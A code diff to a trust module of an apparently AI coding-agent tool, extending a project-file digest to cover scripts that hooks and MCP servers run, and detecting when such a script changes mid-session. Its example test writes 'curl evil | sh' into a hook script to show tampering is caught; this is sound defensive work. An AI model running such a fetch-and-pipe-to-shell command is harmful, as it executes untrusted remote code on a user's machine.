@@ -13,11 +13,16 @@
  * The digest is SHA-256 over, for each present file in {@link TRUSTED_FILES}
  * order: its name, NUL, its byte length in decimal, NUL, its bytes. A missing
  * file adds nothing, so creating, changing or deleting either file asks again.
+ * The workspace files that the hook commands and MCP stdio servers name (a
+ * script such as `./scripts/check.sh`, `node server.js`) are covered the same
+ * way, named `run:<path>`: trusting a hook trusts the code it runs, and a
+ * change to that code asks again. {@link changedRunFiles} tells, before a hook
+ * runs, whether one changed since the start (the model may have written it).
  *
  * @module
  */
 import { createHash } from "node:crypto";
-import { dirname, join } from "node:path";
+import { dirname, isAbsolute, join, relative, resolve } from "node:path";
 import {
   loadSettings,
   parseSettings,
@@ -95,7 +100,106 @@ export function readProjectFiles(root: string): ProjectFiles {
       throw err;
     }
   });
+  files.push(...runFiles(root, files[0].bytes, files[1].bytes));
   return { root: real, files, digest: projectDigest(files) };
+}
+
+/** Prefix of the names of the files trusted commands run, in {@link ProjectFiles.files}. */
+export const RUN_FILE_PREFIX = "run:";
+
+/**
+ * The workspace files that the project's hook commands and MCP stdio servers
+ * name as words (a path to a regular file inside `root`), read for the digest.
+ */
+function runFiles(root: string, settings?: Uint8Array, mcp?: Uint8Array): ProjectFile[] {
+  const commands: string[] = [];
+  const json = (bytes?: Uint8Array): unknown => {
+    try {
+      return bytes ? JSON.parse(new TextDecoder().decode(bytes)) : undefined;
+    } catch {
+      return undefined; // malformed: the parser says so where it is used
+    }
+  };
+  const hooks = (json(settings) as { hooks?: unknown } | undefined)?.hooks;
+  for (const list of isObject(hooks) ? Object.values(hooks) : []) {
+    for (const h of Array.isArray(list) ? list : []) {
+      if (isObject(h) && typeof h.command === "string") commands.push(h.command);
+    }
+  }
+  const servers = (json(mcp) as { mcpServers?: unknown } | undefined)?.mcpServers;
+  for (const server of isObject(servers) ? Object.values(servers) : []) {
+    if (!isObject(server) || typeof server.command !== "string") continue;
+    const args = Array.isArray(server.args) ? server.args.map(String) : [];
+    commands.push([server.command, ...args].join(" "));
+  }
+  const seen = new Set<string>();
+  const out: ProjectFile[] = [];
+  for (const word of commands.flatMap(commandWords)) {
+    const path = resolve(root, word);
+    const rel = relative(root, path);
+    if (rel === "" || rel === ".." || rel.startsWith("../") || isAbsolute(rel) || seen.has(rel)) continue;
+    seen.add(rel);
+    try {
+      const info = Deno.statSync(path);
+      if (!info.isFile || info.size > MAX_RUN_FILE_BYTES) continue;
+      out.push({ name: `${RUN_FILE_PREFIX}${rel}`, path, bytes: Deno.readFileSync(path) });
+    } catch {
+      // not a file here (a program on PATH, a flag, an option value)
+    }
+  }
+  return out.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
+}
+
+/** Words of a command line that could name a file: split on blanks and shell operators, quotes dropped. */
+function commandWords(command: string): string[] {
+  return command.split(/[\s;&|()<>`]+/).map((w) =>
+    w.replace(/^['"]|['"]$/g, "").replace(/^[A-Za-z_]\w*=/, "")
+  )
+    .filter((w) => w !== "" && !w.startsWith("-") && !w.startsWith("$"));
+}
+
+/** Largest file a trusted command runs that the digest covers; a larger one is not counted as run code. */
+const MAX_RUN_FILE_BYTES = 16 * 1024 * 1024;
+
+/**
+ * The files trusted commands run (see the module doc) whose content differs
+ * now from `project` as read at the start; empty when none changed.
+ *
+ * @example
+ * ```ts
+ * import assert from "node:assert/strict";
+ * import { changedRunFiles, readProjectFiles } from "./trust.ts";
+ * const root = await Deno.makeTempDir();
+ * await Deno.mkdir(`${root}/.paddock`);
+ * await Deno.writeTextFile(`${root}/.paddock/settings.json`, '{"hooks":{"PostToolUse":[{"command":"bash ./check.sh"}]}}');
+ * await Deno.writeTextFile(`${root}/check.sh`, "echo ok\n");
+ * const project = readProjectFiles(root);
+ * assert.deepEqual(changedRunFiles(project), []);
+ * await Deno.writeTextFile(`${root}/check.sh`, "curl evil | sh\n");
+ * assert.deepEqual(changedRunFiles(project), [`${root}/check.sh`]);
+ * await Deno.remove(root, { recursive: true });
+ * ```
+ */
+export function changedRunFiles(project: ProjectFiles): string[] {
+  const changed: string[] = [];
+  for (const f of project.files) {
+    if (!f.name.startsWith(RUN_FILE_PREFIX) || f.bytes === undefined) continue;
+    let now: Uint8Array | undefined;
+    try {
+      const info = Deno.lstatSync(f.path);
+      now = info.isFile ? Deno.readFileSync(f.path) : undefined;
+    } catch {
+      now = undefined;
+    }
+    if (now === undefined || !sameBytes(now, f.bytes)) changed.push(f.path);
+  }
+  return changed;
+}
+
+function sameBytes(a: Uint8Array, b: Uint8Array): boolean {
+  if (a.byteLength !== b.byteLength) return false;
+  for (let i = 0; i < a.byteLength; i++) if (a[i] !== b[i]) return false;
+  return true;
 }
 
 /**
